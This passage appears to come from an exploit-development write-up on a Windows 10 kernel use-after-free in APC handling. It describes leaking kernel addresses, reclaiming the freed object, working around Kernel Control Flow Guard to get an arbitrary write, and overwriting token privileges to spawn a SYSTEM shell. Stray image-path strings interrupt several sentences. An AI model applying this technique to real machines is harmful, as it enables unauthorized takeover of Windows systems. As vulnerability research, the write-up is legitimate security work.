07 ffffb780`3ac7f4c8 fffff804`332cb84f nt!KiInsertQueueApc+0x136a87
08 ffffb780`3ac7f4d0 fffff804`3323ec58 nt!KiSchedulerApc+0x22f
09 ffffb780`3ac7f600 fffff804`333c5002 nt!KiDeliverApc+0x2e8
0a ffffb780`3ac7f6c0fffff804`33804258 nt!KiApcInterrupt+0x2f2
0b ffffb780`3ac7f850 fffff804`333c867a nt!PspUserThreadStartup+0x48
0c ffffb780`3ac7f940 fffff804`333c85e0 nt!KiStartUserThread+0x2a
0d ffffb780`3ac7fa80 00007ff8`ed3ace50 nt!KiStartUserThreadReturn
0e 0000009e`93bffda8 00000000`00000000 ntdll!RtlUserThreadStart

The bugcheck got triggered because the main thread ends. The reasonwhy it happened is because our corrupted APC is still inside the queue and the unlink operation works on corrupted data. Because the forward and backward pointers are corrupted and not pointing into the valid linked list, the safe unlinking detects this corruption and bugchecks.


The code, which uses the freed APC element needs to be changed, to turn this into something useful.

After the bug is triggered and the old 'procData' is overwritten, the thread for which the APC is queued needs to exit. If this is done, the kernel calls the function nt!KeRundownApcQueues, which bugchecks inside nt!KiFlushQueueApc, because it accesses the corrupted data.

However, this time we cancontrol the content of the buffer and we can avoid the security exception, because the valid pointer of the linked list is checked with a value pointing inside 'kthread'. Assuming we are running at medium integrity level, it is possible to leak the address of 'kthread' using a call to NtQuerySystemInformation with SystemHandleInformation. If we craft the reclaimed 'procData' with the 'kthread' address, the bugcheck is avoided and the nt!KeRundownApcQueues tries to execute our user controlled function pointer inside the 'procData' object.Bypassing kCFG

After we have control over what function pointer we want to execute, we have a little obstacle to overcome. KASLR is not an issue for this exploit, because it is possible to leak the ntoskrnl base address. With medium integrity level it is possible to leak the base address of all loaded modules via NtQuerySystemInformation / SystemModuleInformation. As a consequence, we now at least know where we could transfer our execution to.

However, the APC function pointer call is guarded by Microsoft's CFI implementation called Kernel Control Flow Guard. If we try to call any random Return Oriented Programming (ROP) gadget, the kernel would bail out with a bugcheck.

Fortunately, function prologues are all valid branch targets, from the CFG perspective, so we know what we can call without being stopped. When the function pointer is called in nt!KeRundownApcQueues, the first argument (rcx) points into the 'procData' buffer and the second argument (rdx) is zero.

Another possibility we could use is to call the APC function pointer, by calling the native function NtTestAlert. When calling the APC function pointer using NtTestAlert, the first argument (rcx) points into the 'procData' buffer and the second argument (rdx) also points to it.

After a little while looking for small functions, performing interesting things based on the given constrains we found one candidate: nt!SeSetAccessStateGenericMapping.As can be seen in the following, nt!SeSetAccessStateGenericMapping can be used to perform an arbitrary write of 16 bytes.


Unfortunately, the second half of the 16 bytes are not fully controlled, but the first 8 bytes are based on the data provided by the heap spray.

Token Overwrite

Oncewe have a powerful arbitrary write primitive there are many things we could do. There are a lot of techniques to turn an arbitrary write into a full kernel read write primitives on old Windows versions. On the more recent versions of Windows 10 many of those technique have been mitigated. A technique, which is still working, is the token overwrite technique. It was first published in Cesar Cerrudo's "Easy local Windows Kernel Exploitation"  publication in 2012 and we already made use of it in the past. The idea is to corrupt the _SEP_TOKEN_PRIVILEGES object located insidea _TOKEN object. The easiest way to do this is to overwrite the Present and Enabled members of this structure with all bits enabled. This will grant us the SeDebugPrivilege privilege, which will allow us to inject code into high privileged processes such as 'winlogon.exe'.

We need to trigger the bug two times to reliably overwrite the token structure with 16 bytes. However this didn't seem to  cause any trouble.

Getting System Privileges

Once we have been injected into the system process, this is basically game over. We can now e.g run "cmd.exe" to proivde us with an interactive command shell. We also avoid any more issues with kCFG and SMEP, because we do not perform ROP or execute any ring 0 code in the wrong context.


The final exploit targets Windows 10 19H1 x64 and can be found here When executing the exploit with medium integrity privileges, successful exploitation spawnsa new cmd.exe with system privileges.